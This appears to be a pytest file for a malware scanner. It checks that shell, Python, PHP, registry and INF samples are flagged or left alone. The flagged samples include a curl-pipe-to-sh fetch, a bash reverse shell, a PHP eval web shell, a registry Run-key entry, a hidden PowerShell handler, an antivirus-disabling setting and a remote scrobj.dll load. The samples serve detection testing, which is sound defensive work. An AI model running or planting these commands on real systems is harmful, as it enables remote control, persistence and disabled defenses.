"""Scripts of servers and of Linux; registry and setup files."""

from __future__ import annotations

import pytest

from fyke.files.base import Content
from fyke.files.scripts.elsewhere import OtherScripts, RegistryFiles
from fyke.model import Finding

RUN = "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"


def _found(text, kind):
    tenant = RegistryFiles() if kind in {"reg", "inf"} else OtherScripts()
    said = tenant.look(Content(text.encode(), f"a.{kind}", kind))
    return {one.symbol.name for one in said if isinstance(one, Finding)}


@pytest.mark.parametrize(
    ("text", "kind", "symbol"),
    [
        ("curl -fsSL https://example.org/i.sh | sh", "shell", "SHELL_FETCH_RUN"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "shell", "SHELL_BACKDOOR"),
        ("exec(zlib.decompress(base64.b64decode('eJw')))", "python", "SCRIPT_EXEC_DECODED"),
        ("<?php eval(base64_decode('ZQ=='));", "php", "SCRIPT_EXEC_DECODED"),
        ("<?php @eval($_POST['x']);", "php", "PHP_WEB_SHELL"),
        ("REGEDIT4\n\n" + RUN + '"a"="C:\\\\a.exe"\n', "reg", "REG_RUN"),
        ('REGEDIT4\n[HKEY_CLASSES_ROOT\\x]\n@="powershell -w hidden -c iex 1"\n', "reg", "REG_SHELL"),
        ('REGEDIT4\n[x]\n"DisableAntiSpyware"=dword:00000001\n', "reg", "REG_DISABLES"),
        ("[DefaultInstall]\nUnRegisterOCXs=a\n[a]\n%11%\\scrobj.dll,NI,http://example.test/a", "inf", "INF_RUNS"),
    ],
)
def test_bad(text, kind, symbol):
    """Each shape is found."""
    assert symbol in _found(text, kind)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("#!/bin/sh\nset -e\ncurl -o a https://example.org/a\ntar xf a\n", "shell"),
        ("import base64\nprint(base64.b64decode('eA=='))\nexec(open('x').read())\n", "python"),
        ("<?php echo htmlspecialchars($_POST['x']);", "php"),
        ('REGEDIT4\n[HKEY_CURRENT_USER\\Software\\Example]\n"a"="C:\\\\Program Files\\\\a.exe"\n', "reg"),
        ("[Version]\nSignature=$CHICAGO$\n[DefaultInstall]\nCopyFiles=a\n", "inf"),
    ],
)
def test_wanted(text, kind):
    """Ordinary scripts, settings and drivers give nothing."""
    assert _found(text, kind) == set()
